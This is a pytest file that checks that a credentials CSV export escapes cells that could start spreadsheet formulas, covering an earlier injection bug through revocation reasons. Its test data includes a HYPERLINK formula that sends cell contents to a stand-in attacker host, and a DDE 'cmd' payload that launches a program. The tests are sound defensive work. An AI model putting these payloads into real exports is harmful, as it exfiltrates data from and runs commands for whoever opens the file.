"""Every cell of the credential export is formula-guarded (issue 10): the revocation reason, free text typed by a
commissioner, was written as is, so ``=HYPERLINK(…)`` ran in the spreadsheet of whoever opened the file."""

from __future__ import annotations

import csv
import io

import pytest

from accounts.audit import Actor
from accounts.credentials import issuing
from common.spreadsheet import formula_safe
from tests.credential_helpers import client, issue

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ada", "Ada"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_the_one_guard(value, cell):
    assert formula_safe(value) == cell


def exported(user) -> list[list[str]]:
    response = client(user).get("/api/v1/credentials/export.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)"])
def test_a_revocation_reason_that_is_a_formula_is_exported_as_text(world, reason):
    credential = issue(world)
    issuing.credential_revoke(actor=Actor(user=world.commissioner), credential_id=credential.pk, reason=reason)
    header, row = exported(world.commissioner)
    assert row[header.index("revocation_reason")] == "'" + reason


def test_no_exported_cell_starts_a_formula(world):
    issuing.credential_revoke(actor=Actor(user=world.commissioner), credential_id=issue(world).pk, reason="-5 days")
    issue(world, holder_name="Grace Hopper")
    for row in exported(world.commissioner):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
